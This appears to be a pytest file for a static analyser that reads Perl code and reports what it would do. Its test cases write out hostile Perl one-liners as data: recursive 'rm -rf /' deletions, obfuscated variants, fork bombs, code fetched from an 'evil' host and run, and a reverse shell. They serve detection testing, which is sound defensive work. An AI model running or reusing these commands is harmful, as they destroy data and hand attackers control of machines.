"""Perl source in, what it would do out."""

from __future__ import annotations

import pytest

from cases import each
from interlock.analysis.code.perl import read_perl
from interlock.analysis.facts import BudgetSpent, hole
from recording_report import Fact, Recorder

HOME = hole("HOME")
SYNTAX = ("unreadable", "Perl that does not parse", "syntax")
PAYLOAD = ("unreadable", "exec of text made at run time", "payload")

DELETES: list[tuple[str, list[Fact]]] = [
    ('unlink "a", "b" or die', [("delete", "a"), ("delete", "b")]),
    ('unlink glob "*"', [("delete", "*", "bulk")]),
    ("unlink <*.txt>", [("delete", "*.txt", "bulk")]),
    ('unlink for glob("*")', [("delete", "*", "bulk")]),
    ('$x = "a" . $_, unlink $x for 1..2', [("delete", "a1"), ("delete", "a2")]),
    ('for my $f (glob "*.c") { unlink $f; }', [("delete", "*.c", "bulk")]),
    ('map { unlink } glob "*"', [("delete", "*", "bulk")]),
    ('unlink map { "src/$_" } ("a", "b")', [("delete", "src/a"), ("delete", "src/b")]),
    ("my @f = qw(a b); unlink @f", [("delete", "a"), ("delete", "b")]),
    ("unlink @files", [("delete", hole("files"), "bulk")]),
    ('opendir(D, "."); while (my $f = readdir D) { unlink $f }', [("delete", hole(), "bulk")]),
    ('rmdir "x"', [("delete", "x", "empty_only")]),
    (
        'use File::Path; rmtree("x"); File::Path::remove_tree("a", {verbose => 1})',
        [("delete", "x", "recursive"), ("delete", "a", "recursive")],
    ),
    ('find(sub { unlink $_ if -f }, "src")', [("delete", "src", "bulk", "recursive")]),
    (
        'finddepth(sub{unlink||rmdir}, "src")',
        [("delete", "src", "bulk", "recursive"), ("delete", "src", "bulk", "empty_only", "recursive")],
    ),
    ('find({wanted => sub { unlink }, no_chdir => 1}, "src")', [("delete", "src", "bulk", "recursive")]),
    ('sub d { my ($p) = @_; unlink $p } d("/etc/passwd")', [("delete", "/etc/passwd")]),
    ('eval { unlink "q" }', [("delete", "q")]),
]

RUNS: list[tuple[str, list[Fact]]] = [
    ('system("rm", "-rf", $ENV{HOME})', [("run", "rm", "-rf", HOME)]),
    ('system "rm -rf $ENV{HOME}/x"', [("shell", f"rm -rf {HOME}/x")]),
    ('my @a = ("rm", "-rf", "/"); exec @a', [("run", "rm", "-rf", "/")]),
    ('exec {"rm"} "ls", "-rf", "/"', [("run", "rm", "-rf", "/")]),
    ("`rm -rf /`; my @l = qx{ls}", [("shell", "rm -rf /"), ("shell", "ls")]),
    ('open(H, "|sh"); print H "rm -rf /"', [("shell", "sh"), ("shell", "rm -rf /")]),
    ('open(Z, "ls|"); open(my $p, "-|", "git", "log")', [("shell", "ls"), ("run", "git", "log")]),
    ('system(pack("H*", "726d202d7266202f"))', [("shell", "rm -rf /")]),
    ('my $c = join("", map { chr } (114, 109)); system($c . " -rf /")', [("shell", "rm -rf /")]),
    ('system scalar reverse "/ fr- mr"', [("shell", "rm -rf /")]),
    (
        'use LWP::Simple; getstore("http://h/x", "x.sh"); system("sh x.sh")',
        [
            ("fetch", "http://h/x"),
            ("write", "x.sh", "downloaded"),
            ("run_download", "http://h/x"),
            ("shell", "sh x.sh"),
        ],
    ),
    ('my %h = (a => "rm"); system("$h{a} -rf x")', [("shell", "rm -rf x")]),
    ('my $f = "sys" . "tem"; &$f("rm -rf /"); $f->("ls")', [("shell", "rm -rf /"), ("shell", "ls")]),
    ('my $c = $x ? "rm -rf /" : "ls"; system $c', [("shell", "rm -rf /"), ("shell", "ls")]),
    ('sub w { return "rm -rf /" } system(w())', [("shell", "rm -rf /")]),
    ('s/x/system("rm -rf ~")/e', [("shell", "rm -rf ~")]),
    ('print <<EOF;\nunlink "x"\nEOF\nsystem("id");', [("shell", "id")]),
    ("eval \"system('ls')\"", [("code", "perl", "system('ls')")]),
    ('eval(decode_base64("dW5saW5rICJ4Ig=="))', [("code", "perl", 'unlink "x"')]),
    ("eval $x", [PAYLOAD]),
    ('use LWP::Simple; eval get("http://evil/x")', [("fetch", "http://evil/x"), ("run_download", "http://evil/x")]),
    ('my $f = shift; $f->("x")', [("unreadable", "a function chosen at run time", "command")]),
    ('$dbh->do("DELETE FROM users")', [("code", "sql", "DELETE FROM users")]),
    ("kill -9, -1", [("kill", "-1", "all")]),
    ("kill 'KILL', -1", [("kill", "-1", "all")]),
    ("fork while 1", [("fork_bomb", "")]),
    ("while(1){fork}", [("fork_bomb", "")]),
    (
        'IO::Socket::INET->new(PeerAddr=>"1.2.3.4:99"); exec("/bin/sh", "-i")',
        [("run", "/bin/sh", "-i"), ("reverse_shell", "1.2.3.4:99")],
    ),
]

FILES: list[tuple[str, list[Fact]]] = [
    ('open(F, ">", "x"); close F', [("truncate", "x")]),
    ('open(my $g, ">", "y"); print $g "hello"', [("write", "y")]),
    ('open(F, ">>y"); print F "x"', [("append", "y")]),
    (
        'rename "a", "b"; chmod 0777, "x"',
        [("move", "a"), ("overwrite", "b"), ("chmod", "x", "world_readable", "world_writable")],
    ),
    ('truncate "x", 0', [("truncate", "x")]),
]

BENIGN = [
    "print if /ERROR/",
    's/foo/bar/g; print "rm -rf /\\n" if m{unlink}',
    'print pack("H*", "726d202d7266202f")',
    "@F = split; $sum += $F[1]; END { print $sum }",
    "my $t = $total/$n; my $u = $a/$b; print qq($t/$u)",
    'my %c; while (<>) { chomp; $c{$_}++ } for my $k (sort { $c{$b} <=> $c{$a} } keys %c) { print "$c{$k} $k\\n" }',
    "undef $/; $_ = <>; s{/\\*.*?\\*/}{}gs; print",
    "s/(\\d+)/$1+1/ge",
    '=pod\n\nunlink "x"\n\n=cut\nprint 1;',
    'my $s = "system(rm)"; warn $s; # unlink "x"',
    'print "yes" if $s eq q(it\'s) or $s ne q{x}; y/a-z/A-Z/;',
    "__END__\nunlink 'x'",
]


@each(("source", "told"), DELETES + RUNS + FILES)
def test_what_perl_does_is_told(source: str, told: list[Fact]) -> None:
    out = Recorder()
    read_perl(source, out)
    assert out.told == told


@each("source", BENIGN)
def test_harmless_perl_tells_nothing(source: str) -> None:
    out = Recorder()
    read_perl(source, out)
    assert out.told == []


@pytest.mark.parametrize(
    "source", ['unlink "abc', "unlink((((", "q{", "s/a", "print <<A;\nx", "(" * 5000, "{" * 300 + "}" * 300]
)
def test_perl_that_does_not_parse_is_told(source: str) -> None:
    out = Recorder()
    read_perl(source, out)
    assert "unreadable" in [fact[0] for fact in out.told]


def test_the_budget_ends_the_reading() -> None:
    with pytest.raises(BudgetSpent):
        read_perl("f(1);" * 1000, Recorder(budget=50))
